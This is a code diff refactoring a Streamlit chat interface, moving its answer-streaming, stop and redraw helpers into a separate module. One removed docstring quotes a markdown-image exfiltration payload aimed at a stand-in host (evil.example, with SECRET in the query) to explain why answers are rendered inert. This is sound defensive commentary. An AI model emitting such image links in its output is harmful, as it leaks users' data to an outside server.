@@ -8,7 +8,6 @@ shown as text, so showing it fetches and runs nothing."""
 from __future__ import annotations
 
 import re
-import time
 
 import streamlit as st
 from streamlit.runtime.scriptrunner import StopException
@@ -21,15 +20,11 @@ from docchat.errors import DocchatError, NotFound
 from docchat.web.safe_markdown import inert
 from docchat.ui import figures, found, header, server_start, sources
 from docchat.ui.session import flash, open_conversation, services
+from docchat.ui.streaming import (BY_A_CLOSED_PAGE, STOP, STREAMING, being_written, clearing, stop_previous_answer,
+                                  written)
 from docchat.ui.text import count, literal
 
 KEY = "chat"
-STREAMING = f"{KEY}_streaming_turn"
-# Why an answer ended early when nobody pressed Stop.
-BY_ANOTHER_CLICK = "cut short by another click on the page"
-BY_A_CLOSED_PAGE = "cut short: the page was reloaded or closed before the end"
-# How often a page looks at an answer another page or process is writing.
-WATCH_S = 1.0
 # A message that was not sent (refused, or stopped before its answer began), kept to edit.
 UNSENT = f"{KEY}_unsent"
 # The earlier question being edited ({"id", "text"}), and the edit to send on the next run.
@@ -43,7 +38,6 @@ PLANS = {"lookup": "Search for the best passages", "collection": "Read every doc
          "compare": "Compare the documents side by side", "table": "Compute the figure from a sheet"}
 # The forms an answer may be written again in; "constrained" is the gate's to choose.
 FORMS = {AnswerForm.QUOTED: "Quote the documents", AnswerForm.FREE: "Write it in the model's own words"}
-SETTLE_WAIT_S = 5.0
 # st.feedback's thumbs: 0 is down, 1 is up.
 THUMBS = {Rating.DOWN: 0, Rating.UP: 1}
 AVATARS = {"user": ":material/person:", "assistant": ":material/smart_toy:", "system": ":material/settings:"}
@@ -52,15 +46,12 @@ AVATARS = {"user": ":material/person:", "assistant": ":material/smart_toy:", "sy
 # made every click wait seconds.
 PAGE = 50
 SHOWN = f"{KEY}_shown"
-# How often the streaming answer is drawn again: each draw makes the whole answer so far inert
-# (8-16 ms for 4,000 characters with links; none for one without), and a person reads no faster.
-REDRAW_S = 0.1
 # A single line break, not one ending a paragraph or already a hard break (a backslash).
 _LINE_BREAK = re.compile(r"(?<![\\\n])\n(?!\n)")
 
 
 def render(conversation_id: str | None) -> None:
-    _stop_previous_answer()
+    stop_previous_answer()
     conversation = _open(conversation_id)
     # Every version of a question or an answer is kept; the page (and the model's history)
     # follows the branch shown, of which it reads only the latest messages it draws.
@@ -238,7 +229,7 @@ def _message(message: Message, *, latest: bool, versions: list[Message] = (), la
         elif message.status is Status.ERROR:
             st.error(f"No answer: {literal(facts.error or 'the LLM failed')}", icon=":material/error:")
         elif message.status is Status.STREAMING:
-            _being_written(message)
+            being_written(message)
         if message.role is Role.ASSISTANT and (message.status in FINISHED and message.content or len(versions) > 1):
             _answer_actions(message, versions, regenerate=may_regenerate(message, last=last))
         elif message.role is Role.USER:
@@ -358,7 +349,7 @@ def _stream(start_turn) -> None:
     """Streams one answer into the page. Until its first word, the page says what the turn is
     doing; a click on Stop (or any rerun) ends it, as interrupted once the answer has begun."""
     with st.chat_message("assistant", avatar=AVATARS["assistant"]):
-        st.button("Stop", key=f"{KEY}_stop", icon=":material/stop_circle:")
+        st.button("Stop", key=STOP, icon=":material/stop_circle:")
         stage = st.empty()
         stage.caption(":material/hourglass_top: Reading the conversation…")
         try:
@@ -377,7 +368,7 @@ def _stream(start_turn) -> None:
         stage.caption(":material/hourglass_top: Waiting for the model…")
         try:
             # A continued answer is drawn whole: the cut one gave way to it (see `render`).
-            _written(_clearing(turn, stage), st.empty(), before=turn.prefix)
+            written(clearing(turn, stage), st.empty(), before=turn.prefix)
         except DocchatError:
             pass  # stored with the message; shown by the rerun below
         except StopException:
@@ -398,59 +389,3 @@ def _as_typed(question: str) -> str:
     """A question with its line breaks (Shift+Enter) kept: Markdown joins two lines into one
     unless the first ends in a hard break."""
     return _LINE_BREAK.sub("  \n", inert(question))
-
-
-def _written(deltas, shown, *, before: str = "") -> str:
-    """Draws the answer as it arrives, inert, at most every REDRAW_S; returns it whole.
-
-    Not st.write_stream: it draws with Streamlit's "unterminated" Markdown, which closes what
-    is left open, so `![x](https://evil.example/?q=SECRET` would be fetched before its `)`."""
-    text, drawn_at = before, 0.0
-    if before:
-        shown.markdown(inert(before))  # the cut answer stays in view while the model starts again
-    for delta in deltas:
-        text += delta
-        if time.monotonic() - drawn_at >= REDRAW_S:
-            shown.markdown(inert(text))
-            drawn_at = time.monotonic()
-    shown.markdown(inert(text))
-    return text
-
-
-def _clearing(turn, stage):
-    """The turn's deltas; the first one replaces the "waiting" line."""
-    waiting = True
-    for delta in turn:
-        if waiting:
-            stage.empty()
-            waiting = False
-        yield delta
-
-
-@st.fragment(run_every=WATCH_S)
-def _being_written(message: Message) -> None:
-    """An answer another page (this one before a reload) or process is writing: what it has
-    written so far, until it is settled and the whole page shows it as stored."""
-    now = services().messages.message(message.conversation_id, message.id)
-    if now.status is not Status.STREAMING:
-        st.rerun()
-    if now.content:
-        st.markdown(inert(now.content))
-    st.caption("Still being written…")
-
-
-def _stop_previous_answer() -> None:
-    """Any rerun during an answer (the Stop button, another click) stops it first.
-
-    The interrupted run may still be unwinding on another thread; waiting for the answer to
-    be settled means this run shows it as stored (interrupted), not half-written.
-    """
-    turn = st.session_state.pop(STREAMING, None)
-    if turn is None:
-        return
-    turn.stop.set()
-    deadline = time.monotonic() + SETTLE_WAIT_S
-    while turn.answer is None and time.monotonic() < deadline:
-        time.sleep(0.05)
-    # Only this run can tell whether the click that ended the answer was on Stop.
-    turn.interrupted_by(None if st.session_state.get(f"{KEY}_stop") else BY_ANOTHER_CLICK)
